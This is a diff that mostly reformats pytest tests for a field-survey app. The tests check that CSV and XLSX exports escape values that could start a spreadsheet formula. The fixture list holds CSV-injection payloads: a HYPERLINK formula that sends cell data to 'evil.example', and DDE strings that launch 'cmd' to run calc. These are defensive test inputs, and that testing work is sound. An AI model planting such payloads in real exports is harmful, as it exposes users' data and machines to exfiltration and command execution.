@@ -43,7 +43,7 @@ from tests.support.server import (
 )
 
 HOSTILE = {
-    "=HYPERLINK(\"http://evil.example/?\"&A2,\"点击\")": "formula",
+    '=HYPERLINK("http://evil.example/?"&A2,"点击")': "formula",
     "+86-138-0000-0000": "plus",
     "-2+3+cmd|' /C calc'!A0": "dde",
     "@SUM(1+1)*cmd|' /C calc'!A0": "at",
@@ -56,8 +56,21 @@ NEGATIVE_INCOME = -1234.5
 def test_only_texts_that_could_start_a_formula_get_a_quote() -> None:
     for text in HOSTILE:
         assert safe_cell(text) == "'" + text
-    assert [safe_cell(v) for v in ("王建国", "6107281010010001", "", " =x", "'=x")] == ["王建国", "6107281010010001", "", " =x", "'=x"]
-    assert safe_row([-5, -1.5, 0, True, None, "-5"]) == [-5, -1.5, 0, True, None, "'-5"]  # numbers by type stay numbers
+    assert [safe_cell(v) for v in ("王建国", "6107281010010001", "", " =x", "'=x")] == [
+        "王建国",
+        "6107281010010001",
+        "",
+        " =x",
+        "'=x",
+    ]
+    assert safe_row([-5, -1.5, 0, True, None, "-5"]) == [
+        -5,
+        -1.5,
+        0,
+        True,
+        None,
+        "'-5",
+    ]  # numbers by type stay numbers
     assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}
 
 
@@ -73,10 +86,20 @@ def database(backend: str) -> Iterator[str | None]:
 
 
 @pytest.fixture(scope="module", params=BACKENDS)
-def county(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerDir]:
+def county(
+    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
+) -> Iterator[ServerDir]:
     with database(request.param) as url:
         sd = ServerDir(tmp_path_factory.mktemp(f"export-{request.param}"))
-        setup.init_server(sd, county=COUNTY, name=None, admin="admin", password="admin-pass-123", db_url=url, kdf=dict(FAST_KDF))
+        setup.init_server(
+            sd,
+            county=COUNTY,
+            name=None,
+            admin="admin",
+            password="admin-pass-123",
+            db_url=url,
+            kdf=dict(FAST_KDF),
+        )
         import_roster(sd, "test", {**roster(1), "households": []})  # the villages only
         identity = enroll_secretary(sd, "sec", [VILLAGE_A])
         names = list(HOSTILE)
@@ -85,14 +108,30 @@ def county(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFact
         for m, name in zip(h.members, names[2:], strict=True):
             m.name = name
         record = household_to_dict(h)
-        visit = {"visit_id": "a1b2c3d4-0000-4000-8000-000000000001", "household_id": h.household_id,
-                 "visit_date": "2025-05-06", "visitor": "王\x07建国", "form_id": "household_visit", "form_version": "1",
-                 "answers": {}, "status": "finalized", "findings": names[3],
-                 "assessment": {"assessed_on": "2025-05-06", "dimensions": {}, "exit_eligible": False,
-                                "net_income_per_capita": NEGATIVE_INCOME, "poverty_line": 6000.0,
-                                "risk_flags": [{"code": "x", "zh": names[4], "en": names[4]}]}}
-        payload = batch_payload(identity, [{"kind": "household.create", "household": record}, {"kind": "visit", "visit": visit}],
-                                base_cursor=None)
+        visit = {
+            "visit_id": "a1b2c3d4-0000-4000-8000-000000000001",
+            "household_id": h.household_id,
+            "visit_date": "2025-05-06",
+            "visitor": "王\x07建国",
+            "form_id": "household_visit",
+            "form_version": "1",
+            "answers": {},
+            "status": "finalized",
+            "findings": names[3],
+            "assessment": {
+                "assessed_on": "2025-05-06",
+                "dimensions": {},
+                "exit_eligible": False,
+                "net_income_per_capita": NEGATIVE_INCOME,
+                "poverty_line": 6000.0,
+                "risk_flags": [{"code": "x", "zh": names[4], "en": names[4]}],
+            },
+        }
+        payload = batch_payload(
+            identity,
+            [{"kind": "household.create", "household": record}, {"kind": "visit", "visit": visit}],
+            base_cursor=None,
+        )
         ingest(sd, seal_batch(identity, payload), via="file")
         try:
             yield sd
@@ -119,10 +158,16 @@ def hostile_cells(values: list[Any]) -> list[str]:
 
 
 @pytest.mark.parametrize("kind", ["households", "members", "visits", "assessments"])
-def test_exports_quote_every_formula_start_and_keep_numbers_numeric(county: ServerDir, kind: str, tmp_path: Path) -> None:
-    table = list(csv.reader(io.StringIO(b"".join(csv_chunks(exporter(county, kind))).decode("utf-8-sig"))))
+def test_exports_quote_every_formula_start_and_keep_numbers_numeric(
+    county: ServerDir, kind: str, tmp_path: Path
+) -> None:
+    table = list(
+        csv.reader(io.StringIO(b"".join(csv_chunks(exporter(county, kind))).decode("utf-8-sig")))
+    )
     path = write_xlsx(exporter(county, kind), tmp_path, county.secrets.files_key)  # sealed on disk
-    wb = load_workbook(io.BytesIO(b"".join(xlsx_chunks(path, county.secrets.files_key))))  # not read-only: data_type tells a formula cell from a text
+    wb = load_workbook(
+        io.BytesIO(b"".join(xlsx_chunks(path, county.secrets.files_key)))
+    )  # not read-only: data_type tells a formula cell from a text
     cells = [c for row in wb.active.iter_rows() for c in row]
     assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
     xlsx_rows = [[c.value for c in row] for row in wb.active.iter_rows()]
@@ -130,7 +175,12 @@ def test_exports_quote_every_formula_start_and_keep_numbers_numeric(county: Serv
         found = [v for row in rows for v in hostile_cells(row)]
         assert found, f"{kind}: the hostile texts are exported"
         assert all(v.startswith("'") and v[1:] in HOSTILE for v in found)
-        assert not [v for row in rows for v in row if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS) and not number(v)]
+        assert not [
+            v
+            for row in rows
+            for v in row
+            if isinstance(v, str) and v.startswith(FORMULA_TRIGGERS) and not number(v)
+        ]
     if kind == "assessments":
         income = xlsx_rows[0].index("net income per person (yuan)")
         cell = wb.active.cell(row=2, column=income + 1)
@@ -144,8 +194,12 @@ def test_exports_quote_every_formula_start_and_keep_numbers_numeric(county: Serv
         assert wb.active.cell(row=2, column=members + 1).value == 4
 
 
-def test_the_command_line_csv_and_the_roster_reports_quote_formula_starts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
-                                                                        capsys: pytest.CaptureFixture[str], fast_kdf: dict) -> None:
+def test_the_command_line_csv_and_the_roster_reports_quote_formula_starts(
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+    fast_kdf: dict,
+) -> None:
     from fieldsurvey.cli import main
     from fieldsurvey.store import Store
 
@@ -166,4 +220,8 @@ def test_the_command_line_csv_and_the_roster_reports_quote_formula_starts(tmp_pa
 
     report = tmp_path / "report.csv"
     write_csv(report, [["row", "household_no"], ["2", "=1+1"], ["3", "-7"]])
-    assert list(csv.reader(io.StringIO(report.read_text("utf-8-sig")))) == [["row", "household_no"], ["2", "'=1+1"], ["3", "'-7"]]
+    assert list(csv.reader(io.StringIO(report.read_text("utf-8-sig")))) == [
+        ["row", "household_no"],
+        ["2", "'=1+1"],
+        ["3", "'-7"],
+    ]
